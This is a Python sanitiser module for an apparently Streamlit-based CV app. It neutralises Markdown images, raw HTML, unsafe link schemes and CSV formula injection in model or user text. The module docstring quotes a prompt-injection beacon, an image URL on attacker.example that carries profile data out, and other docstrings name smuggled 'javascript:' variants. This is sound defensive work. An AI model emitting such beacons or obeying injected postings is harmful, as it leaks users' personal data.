"""Untrusted text made safe for the place it is shown: Markdown bodies, one-line labels, CSV cells.

Generated documents and extracted jobs are model output, and a prompt-injected posting can make a
model write anything: ``![](https://attacker.example/x.png?d=<profile data>)`` is a beacon the
browser fetches as soon as the page renders it. The stored text is never changed (a user's edit stays
as written); it is made safe where it is rendered or exported:

- ``safe_markdown`` for bodies (documents in the app, the Markdown download, DOCX and PDF): keeps
  headings, lists, emphasis and ordinary links, and removes what could fetch or run something.
- ``plain_label`` for one-line labels built from user or model text (titles, companies, skills,
  error messages): every character shows as written, nothing is interpreted.
- ``spreadsheet_cell`` / ``safe_csv_writer`` for CSV exports (formula injection).

The Markdown rules are deliberately conservative rather than a full CommonMark parser: each pass
only inserts backslash escapes (or rewrites an image to text), so a construct it neutralises cannot
be re-formed by a later pass, and a hostile input that confuses a pass still ends up escaped.
Nothing here imports Streamlit; the Streamlit-only syntax is handled behind ``streamlit=True``.
"""

from __future__ import annotations

import csv
import re
from typing import Any
from urllib.parse import quote

__all__ = ["SAFE_LINK_SCHEMES", "plain_label", "safe_csv_writer", "safe_link", "safe_markdown",
           "spreadsheet_cell"]

SAFE_LINK_SCHEMES = ("http://", "https://", "mailto:", "tel:")
_SAFE_DEST = re.compile(r"(?:https?://|mailto:|tel:)", re.IGNORECASE)
WORD_JOINER = "\u2060"  # invisible; splits Streamlit's icon shortcodes without changing the text shown

# ``![alt](dest "title")`` on one line, the common form a model writes; other image forms
# (reference images, alt text with brackets or line breaks) are broken by ``_break_images``.
_IMAGE = re.compile(
    r"!\[(?P<alt>(?:[^\[\]\\\n]|\\.)*)\]\([ \t]*\n?[ \t]*"
    r"(?P<dest><[^<>\n]*>|(?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.)*\))*)"
    r"(?:[ \t]+(?:\"(?:[^\"\\\n]|\\.)*\"|'(?:[^'\\\n]|\\.)*'|\((?:[^()\\\n]|\\.)*\)))?[ \t]*\)"
)
_LINK_CLOSE = re.compile(r"\]\([ \t]*(?:\n[ \t]*)?")
_DIRECTIVE = re.compile(r":(?=[A-Za-z][\w-]*[\[{])")  # :blue[…], :help[…], :color[…]{…}
_ICON = re.compile(r":(?=material[/_]|streamlit:)")  # :material/x:, :material_x:, :streamlit:
_ENTITY = re.compile(r"&(?=#[0-9]{1,7};|#[xX][0-9a-fA-F]{1,6};|[A-Za-z][A-Za-z0-9]{1,31};)")


def _escaped(text: str, index: int) -> bool:
    """Whether ``text[index]`` is backslash-escaped (an odd run of backslashes before it)."""
    run = 0
    while index - run - 1 >= 0 and text[index - run - 1] == "\\":
        run += 1
    return run % 2 == 1


def _escape_unescaped(pattern: re.Pattern, text: str) -> str:
    """A backslash before every match of ``pattern`` whose first character is not escaped yet."""
    return pattern.sub(lambda m: m.group(0) if _escaped(text, m.start()) else "\\" + m.group(0), text)


def _image_as_text(text: str) -> str:
    def replace(m: re.Match) -> str:
        if _escaped(text, m.start()):
            return m.group(0)
        alt = m.group("alt").strip()
        dest = m.group("dest").strip()
        if dest.startswith("<") and dest.endswith(">"):
            dest = dest[1:-1].strip()
        note = f"(image not shown: {dest})" if dest else "(image not shown)"
        return f"{alt} {note}" if alt else note

    return _IMAGE.sub(replace, text)


def _neutralise_links(text: str) -> str:
    """``[label](dest)``: kept when ``dest`` literally starts with http(s)://, mailto: or tel:;
    otherwise the ``]`` is escaped and the whole thing shows as text. A literal prefix is
    required, so entities, escapes, spaces or control characters cannot smuggle a scheme in
    (``java&#9;script:``, ``javascript&colon;``, ``<javascript:…>``, relative and ``//host`` URLs)."""
    def replace(m: re.Match) -> str:
        if _escaped(text, m.start()) or _SAFE_DEST.match(text, m.end()):
            return m.group(0)
        return "\\" + m.group(0)

    return _LINK_CLOSE.sub(replace, text)


def _streamlit_syntax(text: str) -> str:
    """Streamlit's own Markdown extensions: ``$…$`` LaTeX, ``:color[…]`` style directives and
    ``:material/…:`` icons. ``$`` and the directive's colon are escaped; icon shortcodes are
    matched by Streamlit on the decoded text (an escape would not help), so a word joiner
    goes after their colon."""
    text = _escape_unescaped(re.compile(r"\$"), text)
    text = _escape_unescaped(_DIRECTIVE, text)
    return _ICON.sub(":" + WORD_JOINER, text)


def safe_markdown(text: str | None, *, streamlit: bool = True) -> str:
    """Model or user Markdown, safe to render: no image is ever loaded, no raw HTML, no link but
    http(s)/mailto/tel. Formatting a CV uses (headings, lists, bold, italics, https links, rules,
    tables) is left exactly as written.

    - inline images ``![alt](url)`` become the text ``alt (image not shown: url)``; any other
      ``![`` (reference images, odd alt text) gets its ``[`` escaped, so no image can form;
    - link reference definitions (``[ref]: url``) are disabled, so reference links and images
      stay text: every ``]`` directly followed by ``:`` is escaped;
    - inline links keep only safe destinations (see ``_neutralise_links``);
    - every ``<`` is escaped: no raw HTML (``<img …>``, ``<a href>``) and no ``<…>`` autolinks;
    - with ``streamlit=True`` (rendering with ``st.markdown``) Streamlit's LaTeX, colour
      directives and icons are escaped too; exports pass ``streamlit=False``.

    Escapes are visible only inside code spans and fenced code, where Markdown shows backslashes
    literally: a rare case in CVs and letters, and the price of not trusting a code-span parser.
    The result is idempotent: sanitising it again changes nothing.
    """
    text = (text or "").replace("\r\n", "\n").replace("\r", "\n")
    text = _image_as_text(text)
    text = text.replace("![", "!\\[")
    text = _escape_unescaped(re.compile(r"\](?=:)"), text)
    text = _neutralise_links(text)
    text = _escape_unescaped(re.compile(r"<"), text)
    if streamlit:
        text = _streamlit_syntax(text)
    return text


_LABEL_ALWAYS = set("\\`*[]<$~")
_LINE_START = re.compile(r"^(?:([#>+\-=])|(\d{1,9})([.)]))")


def plain_label(text: Any) -> str:
    """Text shown exactly as written inside Markdown (st.markdown, st.caption, st.subheader,
    st.toast, badges, error boxes): one line, every Markdown and Streamlit marker escaped.

    Used for titles, companies, skills, profile fields and messages that may carry user or
    model text. Whitespace runs (line breaks too) collapse to one space. ``_`` between two
    letters or digits stays as it is (it cannot start emphasis there), so ``snake_case`` and
    ``invalid_key`` read unchanged in the page source too.
    """
    text = " ".join(str(text or "").split())
    out: list[str] = []
    for i, ch in enumerate(text):
        if ch in _LABEL_ALWAYS:
            out.append("\\" + ch)
        elif ch == "_":
            inner = 0 < i < len(text) - 1 and text[i - 1].isalnum() and text[i + 1].isalnum()
            out.append("_" if inner else "\\_")
        elif ch == "&" and _ENTITY.match(text, i):
            out.append("\\&")
        elif ch == ":" and _DIRECTIVE.match(text, i):
            out.append("\\:")
        elif ch == ":" and _ICON.match(text, i):
            out.append(":" + WORD_JOINER)
        else:
            out.append(ch)
    label = "".join(out)
    # Block markers only count at the start of a line: a heading, quote, list item or setext rule.
    return _LINE_START.sub(lambda m: "\\" + m.group(1) if m.group(1) else m.group(2) + "\\" + m.group(3),
                           label, count=1)


def safe_link(label: str, url: str | None) -> str:
    """A Markdown link ``[label](url)`` when ``url`` is http(s)/mailto/tel, else the label and the
    URL as plain text. The URL is percent-encoded where Markdown would read it as syntax."""
    if not url:
        return plain_label(label)
    url = url.strip()
    if not url.lower().startswith(SAFE_LINK_SCHEMES) or any(ord(c) < 0x20 or c.isspace() for c in url):
        return f"{plain_label(label)} ({plain_label(url)})"
    encoded = quote(url, safe="/:?#@!&'*+,;=%-._~")  # encodes ( ) [ ] < > \ ` ^ { | } $
    return f"[{plain_label(label)}]({encoded})"


# ------------------------------------------------------------------------------------------ CSV

_FORMULA_START = tuple("=+-@＝＋－＠")  # with their full-width forms, which some spreadsheets accept
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d+)?|\.\d+)")


def spreadsheet_cell(value: Any) -> Any:
    """A CSV cell that a spreadsheet will not run as a formula (OWASP "CSV injection").

    A text cell whose first character is ``=``, ``+``, ``-`` or ``@`` (after any leading
    whitespace), or that starts with a tab, carriage return or line feed, gets a leading ``'``
    so it is read as text. Decision: a cell that is a plain decimal number (``-0.12``,
    ``+3``, ``10.5``) is left alone, so money columns with negative margins stay numbers a
    spreadsheet can sum; a plain number cannot carry a formula. Everything else that starts
    with those characters is escaped, including ``-2+3`` and ``-1e5``. Non-text values
    (int, Decimal, None) are returned as they are.
    """
    if not isinstance(value, str) or not value:
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    if value[0] in "\t\r\n" or value.lstrip().startswith(_FORMULA_START):
        return "'" + value
    return value


class _SafeWriter:
    """``csv.writer`` with every cell passed through ``spreadsheet_cell``."""

    def __init__(self, stream, **kwargs) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row) -> Any:
        return self._writer.writerow([spreadsheet_cell(v) for v in row])

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def safe_csv_writer(stream, **kwargs) -> _SafeWriter:
    """A drop-in ``csv.writer`` for exports that may hold user-controlled text."""
    return _SafeWriter(stream, **kwargs)
